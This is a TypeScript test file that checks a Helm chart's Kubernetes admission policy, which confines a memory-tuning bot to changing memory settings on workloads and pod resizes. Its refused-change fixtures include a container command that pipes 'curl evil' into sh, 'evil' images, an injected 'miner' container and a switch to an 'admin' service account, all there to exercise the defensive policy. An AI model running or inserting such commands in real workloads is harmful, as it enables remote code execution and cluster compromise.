/**
 * The ValidatingAdmissionPolicy the chart ships: its CEL, taken from the rendered chart, is evaluated
 * (see evaluate-admission-policy.ts) against updates of workloads as the API server would hand them to
 * it. The bot's own memory patches (built by bot/workload-patch.ts, as the bot sends them) pass on every
 * kind it patches; any other change by the bot is refused; other users are not matched.
 */
import { describe, expect, it } from 'vitest';
import { memoryPatch } from '../../bot/workload-patch.js';
import type { LimitProposal, Proposal, RequestProposal } from '../../diagnosis/propose-limit.js';
import { CHART_DIR, find, readPlainManifests, renderChartObjects, type Json } from './deploy-files.js';
import { evaluatePolicy, type AdmissionRequest } from './evaluate-admission-policy.js';
import { runHelm } from './helm.js';

const POLICY = 'oombot-bot-memory-only';
const BOT = 'system:serviceaccount:oombot:oombot-bot';
const policy = () => find(readPlainManifests(), 'ValidatingAdmissionPolicy', POLICY);

const KINDS = {
  Deployment: { group: 'apps', resource: 'deployments' },
  StatefulSet: { group: 'apps', resource: 'statefulsets' },
  DaemonSet: { group: 'apps', resource: 'daemonsets' },
  ReplicaSet: { group: 'apps', resource: 'replicasets' },
  ReplicationController: { group: '', resource: 'replicationcontrollers' },
  CronJob: { group: 'batch', resource: 'cronjobs' },
} as const;
type Kind = keyof typeof KINDS;

/** A pod template with what the API server fills in, an init container, and a second container. */
function podTemplate(): Json {
  return {
    metadata: { labels: { app: 'api' }, annotations: { 'prometheus.io/scrape': 'true' } },
    spec: {
      initContainers: [{ name: 'migrate', image: 'registry.example.com/api:1.4', command: ['node', 'migrate.js'], resources: { limits: { memory: '128Mi' } } }],
      containers: [
        {
          name: 'api',
          image: 'registry.example.com/api:1.4',
          command: ['node', 'server.js'],
          env: [{ name: 'PORT', value: '8080' }],
          ports: [{ containerPort: 8080, protocol: 'TCP' }],
          resources: { requests: { cpu: '250m', memory: '256Mi' }, limits: { cpu: '1', memory: '512Mi' } },
          terminationMessagePath: '/dev/termination-log',
          terminationMessagePolicy: 'File',
          imagePullPolicy: 'IfNotPresent',
        },
        { name: 'proxy', image: 'envoyproxy/envoy:v1.30', resources: { requests: { cpu: '50m' } } },
      ],
      restartPolicy: 'Always',
      terminationGracePeriodSeconds: 30,
      dnsPolicy: 'ClusterFirst',
      schedulerName: 'default-scheduler',
      securityContext: {},
    },
  };
}

/** A workload as the API server stores it: managed fields, generation, status. */
function workload(kind: Kind): Json {
  const template = podTemplate();
  const selector = { matchLabels: { app: 'api' } };
  const metadata = {
    name: 'api',
    namespace: 'shop',
    uid: '6f1c2a9e-0000-4000-8000-000000000001',
    resourceVersion: '10411',
    generation: 3,
    creationTimestamp: '2026-01-05T10:00:00Z',
    labels: { app: 'api', team: 'shop' },
    annotations: { 'example.com/owner': 'shop-team' },
    managedFields: [
      {
        manager: 'kubectl-client-side-apply',
        operation: 'Update',
        apiVersion: 'v1',
        time: '2026-01-05T10:00:00Z',
        fieldsType: 'FieldsV1',
        fieldsV1: { 'f:spec': {} },
      },
    ],
  };
  const specs: Record<Kind, Json> = {
    Deployment: {
      replicas: 3,
      selector,
      strategy: { type: 'RollingUpdate', rollingUpdate: { maxSurge: '25%', maxUnavailable: '25%' } },
      revisionHistoryLimit: 10,
      progressDeadlineSeconds: 600,
      template,
    },
    StatefulSet: { replicas: 3, selector, serviceName: 'api', podManagementPolicy: 'OrderedReady', updateStrategy: { type: 'RollingUpdate' }, template },
    DaemonSet: { selector, updateStrategy: { type: 'RollingUpdate' }, template },
    ReplicaSet: { replicas: 3, selector, template },
    ReplicationController: { replicas: 3, selector: { app: 'api' }, template },
    CronJob: {
      schedule: '*/5 * * * *',
      concurrencyPolicy: 'Forbid',
      jobTemplate: {
        metadata: { labels: { app: 'api' } },
        spec: { backoffLimit: 2, template: { ...template, spec: { ...(template.spec as Json), restartPolicy: 'OnFailure' } } },
      },
    },
  };
  const group = KINDS[kind].group;
  return { apiVersion: group ? `${group}/v1` : 'v1', kind, metadata, spec: specs[kind], status: { observedGeneration: 3 } };
}

/** A strategic merge patch of the shape the bot sends: maps merge, null removes, containers merge by name. */
function strategicMerge(target: unknown, patch: unknown): unknown {
  if (patch === null) return undefined;
  if (Array.isArray(patch)) {
    const out = structuredClone((target ?? []) as Json[]);
    for (const item of patch as Json[]) {
      const at = out.findIndex((x) => x.name === item.name);
      if (at < 0) out.push(item);
      else out[at] = strategicMerge(out[at], item) as Json;
    }
    return out;
  }
  if (typeof patch === 'object') {
    const out: Json = { ...((target ?? {}) as Json) };
    for (const [k, v] of Object.entries(patch)) {
      const merged = strategicMerge(out[k], v);
      if (merged === undefined) delete out[k];
      else out[k] = merged;
    }
    return out;
  }
  return patch;
}

/**
 * The update as validating admission sees it: the changed object, with what the API server sets
 * itself by then (the generation bumped for a spec change, the managed fields of the request's manager).
 */
function update(old: Json, change: (next: Json) => void, username = BOT, operation: AdmissionRequest['operation'] = 'UPDATE'): AdmissionRequest {
  const next = structuredClone(old);
  change(next);
  const meta = next.metadata as Json;
  meta.generation = Number(meta.generation) + 1;
  meta.managedFields = [
    ...(meta.managedFields as Json[]),
    {
      manager: 'oombot',
      operation: 'Update',
      apiVersion: String(next.apiVersion),
      time: '2026-02-01T09:00:00Z',
      fieldsType: 'FieldsV1',
      fieldsV1: { 'f:spec': {} },
    },
  ];
  const kind = String(old.kind) as Kind;
  const { group, resource } = KINDS[kind];
  return {
    kind: { group, version: 'v1', kind },
    resource: { group, version: 'v1', resource },
    operation,
    namespace: 'shop',
    name: 'api',
    userInfo: { username, groups: ['system:serviceaccounts', 'system:authenticated'] },
    object: next,
    oldObject: old,
  };
}

function podSpec(obj: Json): { containers: Json[]; initContainers: Json[] } & Json {
  const spec = obj.spec as Json;
  const template = (obj.kind === 'CronJob' ? ((spec.jobTemplate as Json).spec as Json).template : spec.template) as Json;
  return template.spec as { containers: Json[]; initContainers: Json[] } & Json;
}

const container = (obj: Json, name = 'api') => podSpec(obj).containers.find((c) => c.name === name) as Json & { resources: { limits: Json; requests: Json } };

function proposal(change: { toLimit?: string; toRequest?: string }, name = 'api'): Proposal {
  const base = { container: name, owner: { kind: 'Deployment', name: 'api', namespace: 'shop' }, reason: 'test' };
  if (change.toLimit)
    return {
      ...base,
      target: 'limit',
      fromLimit: '512Mi',
      toLimit: change.toLimit,
      fromLimitBytes: 512 * 2 ** 20,
      toLimitBytes: 0,
      ...(change.toRequest ? { toRequest: change.toRequest } : {}),
    } satisfies LimitProposal;
  return { ...base, target: 'request', toRequest: change.toRequest!, toRequestBytes: 0 } satisfies RequestProposal;
}

/** A running pod of the Deployment, as the API server stores it (status included). */
function runningPod(): Json {
  const t = podTemplate();
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name: 'api-7d4b9c-x2k4q',
      namespace: 'shop',
      uid: '6f1c2a9e-0000-4000-8000-000000000002',
      resourceVersion: '20411',
      generation: 1,
      labels: { app: 'api' },
      ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'api-7d4b9c', uid: '6f1c2a9e-0000-4000-8000-000000000003', controller: true }],
    },
    spec: { ...(t.spec as Json), nodeName: 'node-a' },
    status: { phase: 'Running', containerStatuses: [{ name: 'api', ready: true, resources: { limits: { memory: '512Mi' } } }] },
  };
}

/** The bot's resize patch (bot/resize-pods.ts sends this shape) applied to the running pod. */
function resizeMemory(pod: Json, resources: Json): void {
  const next = strategicMerge(pod, { spec: { containers: [{ name: 'api', resources }] } }) as Json;
  pod.spec = next.spec;
}

/** PATCH pods/{name}/resize as validating admission sees it. */
function resizeRequest(change: (pod: Json) => void): AdmissionRequest {
  const old = runningPod();
  const next = structuredClone(old);
  change(next);
  (next.metadata as Json).generation = 2;
  return {
    kind: { group: '', version: 'v1', kind: 'Pod' },
    resource: { group: '', version: 'v1', resource: 'pods' },
    subResource: 'resize',
    operation: 'UPDATE',
    namespace: 'shop',
    name: 'api-7d4b9c-x2k4q',
    userInfo: { username: BOT, groups: ['system:serviceaccounts', 'system:authenticated'] },
    object: next,
    oldObject: old,
  };
}

describe("the admission policy on the bot's changes", () => {
  const PATCHES: [string, 'containers' | 'initContainers' | 'pod', string, Proposal][] = [
    ['a memory limit raised', 'containers', 'api', proposal({ toLimit: '640Mi' })],
    ['a memory limit raised with its request', 'containers', 'api', proposal({ toLimit: '640Mi', toRequest: '640Mi' })],
    ['a memory request changed', 'containers', 'api', proposal({ toRequest: '384Mi' })],
    ['a memory request removed (an undo back to none)', 'containers', 'api', proposal({ toRequest: 'none' })],
    ['a memory limit set where there was none', 'containers', 'proxy', proposal({ toLimit: '256Mi' }, 'proxy')],
    ["an init container's memory limit raised", 'initContainers', 'migrate', proposal({ toLimit: '256Mi' }, 'migrate')],
    ['a pod-level memory limit set with its request (KEP-2837)', 'pod', 'api', { ...proposal({ toLimit: '1Gi', toRequest: '1Gi' }), scope: 'pod' } as Proposal],
  ];

  it.each(Object.keys(KINDS) as Kind[])('admits each memory patch the bot sends to a %s', (kind) => {
    for (const [what, list, name, p] of PATCHES) {
      const old = workload(kind);
      const request = update(old, (next) => Object.assign(next, strategicMerge(next, memoryPatch(kind, list, p))));
      // The patch did change the memory (and only it), or the case would prove nothing.
      expect(request.object, what).not.toEqual(request.oldObject);
      expect(evaluatePolicy(policy(), request), `${kind}: ${what} (${name})`).toEqual({ matched: true, refusals: [] });
    }
  });

  const REFUSED: [string, (next: Json) => void, string][] = [
    ['an image change', (d) => (container(d).image = 'registry.example.com/api:evil'), 'changes a container otherwise'],
    [
      'an image change along with a memory change',
      (d) => Object.assign(container(d), { image: 'evil:1', resources: { ...container(d).resources, limits: { cpu: '1', memory: '1Gi' } } }),
      'changes a container otherwise',
    ],
    ['a CPU limit change', (d) => (container(d).resources.limits.cpu = '4'), 'changes a container otherwise'],
    ['a CPU limit added', (d) => (container(d, 'proxy').resources.limits = { cpu: '1' }), 'changes a container otherwise'],
    ['another resource limit added', (d) => (container(d).resources.limits['ephemeral-storage'] = '10Gi'), 'changes a container otherwise'],
    ['an added container', (d) => podSpec(d).containers.push({ name: 'miner', image: 'miner:1' }), 'adds, removes or reorders one'],
    ['a removed container', (d) => podSpec(d).containers.pop(), 'adds, removes or reorders one'],
    ['containers reordered', (d) => podSpec(d).containers.reverse(), 'adds, removes or reorders one'],
    ['a changed command', (d) => (container(d).command = ['sh', '-c', 'curl evil | sh']), 'changes a container otherwise'],
    ['an added environment variable', (d) => (container(d).env as Json[]).push({ name: 'DEBUG', value: '1' }), 'changes a container otherwise'],
    ["an init container's image", (d) => (podSpec(d).initContainers[0]!.image = 'evil:1'), 'changes an init container otherwise'],
    ['a label change', (d) => (((d.metadata as Json).labels as Json).team = 'other'), 'changes its metadata'],
    ['an added annotation', (d) => (((d.metadata as Json).annotations as Json)['example.com/x'] = 'y'), 'changes its metadata'],
    ['a removed label set', (d) => delete (d.metadata as Json).labels, 'changes its metadata'],
    ['a replicas change', (d) => ((d.spec as Json).replicas = 10), 'changes its spec outside the pod template'],
    [
      'a pod template label change',
      (d) => ((((d.spec as Json).template as Json).metadata as Json).labels = { app: 'other' }),
      'changes the pod template outside its containers',
    ],
    ['a pod spec change (host network)', (d) => (podSpec(d).hostNetwork = true), 'changes the pod template outside its containers'],
    ['a different service account', (d) => (podSpec(d).serviceAccountName = 'admin'), 'changes the pod template outside its containers'],
    ['a status change', (d) => ((d.status as Json).observedGeneration = 9), 'changes more than its spec'],
    [
      'a pod-level CPU limit',
      (d) => (podSpec(d).resources = { limits: { cpu: '4', memory: '1Gi' } }),
      'changes the pod-level resources (spec.resources) otherwise',
    ],
    ['another pod-level key', (d) => (podSpec(d).resources = { claims: [{ name: 'gpu' }] }), 'changes the pod-level resources (spec.resources) otherwise'],
  ];

  it.each(REFUSED)('refuses %s by the bot', (_what, change, message) => {
    const decision = evaluatePolicy(policy(), update(workload('Deployment'), change));
    expect(decision.matched).toBe(true);
    expect(decision.refusals.join('\n')).toContain(message);
  });

  it.each([
    ['a schedule change', (d: Json) => ((d.spec as Json).schedule = '* * * * *'), 'changes its spec outside the pod template'],
    [
      'a job template change',
      (d: Json) => ((((d.spec as Json).jobTemplate as Json).spec as Json).backoffLimit = 100),
      'changes its spec outside the pod template',
    ],
    ['an image change', (d: Json) => (container(d).image = 'evil:1'), 'changes a container otherwise'],
  ])('refuses, in a CronJob, %s by the bot', (_what, change, message) => {
    const decision = evaluatePolicy(policy(), update(workload('CronJob'), change));
    expect(decision.refusals.join('\n')).toContain(message);
  });

  it("does not match another user's request, nor a request outside the bot's workload updates", () => {
    const imageChange = (d: Json) => (container(d).image = 'registry.example.com/api:1.5');
    for (const user of [
      'kubernetes-admin',
      'system:serviceaccount:oombot:oombot-worker',
      'system:serviceaccount:other:oombot-bot',
      'system:serviceaccount:oombot:oombot-bot-2',
    ]) {
      expect(evaluatePolicy(policy(), update(workload('Deployment'), imageChange, user)), user).toEqual({ matched: false, refusals: [] });
    }
    // Only updates of the kinds the bot patches: not a creation, not a Pod.
    expect(evaluatePolicy(policy(), { ...update(workload('Deployment'), imageChange), operation: 'CREATE' }).matched).toBe(false);
    const pod = update(workload('Deployment'), imageChange);
    expect(
      evaluatePolicy(policy(), { ...pod, kind: { group: '', version: 'v1', kind: 'Pod' }, resource: { group: '', version: 'v1', resource: 'pods' } }).matched,
    ).toBe(false);
  });

  it("matches exactly the kinds the bot may patch, and binds the release's bot with Deny", () => {
    const docs = readPlainManifests();
    const rules = ((policy().spec as Json).matchConstraints as { resourceRules: { apiGroups: string[]; resources: string[] }[] }).resourceRules;
    const matched = rules.flatMap((r) => r.apiGroups.flatMap((g) => r.resources.map((res) => `${res}${g ? `.${g}` : ''}`))).sort();
    const botRole = find(docs, 'ClusterRole', 'oombot-bot').rules as { apiGroups: string[]; resources: string[]; verbs: string[] }[];
    const patched = botRole
      .filter((r) => r.verbs.includes('patch'))
      .flatMap((r) => r.apiGroups.flatMap((g) => r.resources.map((res) => `${res}${g ? `.${g}` : ''}`)))
      .sort();
    expect(matched).toEqual(patched);
    expect([...Object.values(KINDS).map((k) => `${k.resource}${k.group ? `.${k.group}` : ''}`), 'pods/resize'].sort()).toEqual(patched);
    expect(find(docs, 'ValidatingAdmissionPolicyBinding', POLICY).spec as Json).toEqual({ policyName: POLICY, validationActions: ['Deny'] });
    // Named after the release, and the bot's ServiceAccount of the release's namespace.
    const other = renderChartObjects({}, { releaseName: 'ops', namespace: 'platform' });
    const condition = ((find(other, 'ValidatingAdmissionPolicy', 'ops-oombot-bot-memory-only').spec as Json).matchConditions as { expression: string }[])[0]!;
    expect(condition.expression).toBe("request.userInfo.username == 'system:serviceaccount:platform:ops-oombot-bot'");
    expect((find(other, 'ValidatingAdmissionPolicyBinding', 'ops-oombot-bot-memory-only').spec as Json).policyName).toBe('ops-oombot-bot-memory-only');
  });

  it.each([
    ["the bot's own resize of the memory limit", (p: Json) => resizeMemory(p, { limits: { memory: '640Mi' } }), undefined],
    ['a resize of the memory request too', (p: Json) => resizeMemory(p, { limits: { memory: '640Mi' }, requests: { memory: '320Mi' } }), undefined],
    ['a resize of the CPU', (p: Json) => resizeMemory(p, { limits: { cpu: '4' } }), 'changes a container otherwise'],
    ['a label on the pod', (p: Json) => ((p.metadata as Json).labels = { app: 'api', x: 'y' }), 'changes its metadata'],
  ] as const)('on pods/resize by the bot, judges %s', (_what, change, message) => {
    const decision = evaluatePolicy(policy(), resizeRequest(change));
    expect(decision.matched).toBe(true);
    if (message) expect(decision.refusals.join('\n')).toContain(message);
    else expect(decision.refusals).toEqual([]);
  });

  it('admissionPolicy.enabled=false leaves both out; on Kubernetes before 1.30 the chart says to', () => {
    const kinds = (docs: Json[]) => docs.map((d) => String(d.kind)).filter((k) => k.startsWith('ValidatingAdmissionPolicy'));
    expect(kinds(readPlainManifests())).toEqual(['ValidatingAdmissionPolicy', 'ValidatingAdmissionPolicyBinding']);
    expect(kinds(renderChartObjects({ admissionPolicy: { enabled: false } }))).toEqual([]);
    const old = ['template', 'oombot', CHART_DIR, '--namespace', 'oombot', '--kube-version', '1.29.4'];
    expect(() => runHelm(old)).toThrow(/admissionPolicy.enabled needs Kubernetes 1.30 or later.*set admissionPolicy.enabled=false/);
    expect(runHelm([...old, '--set', 'admissionPolicy.enabled=false'])).not.toContain('ValidatingAdmissionPolicy');
  });
});
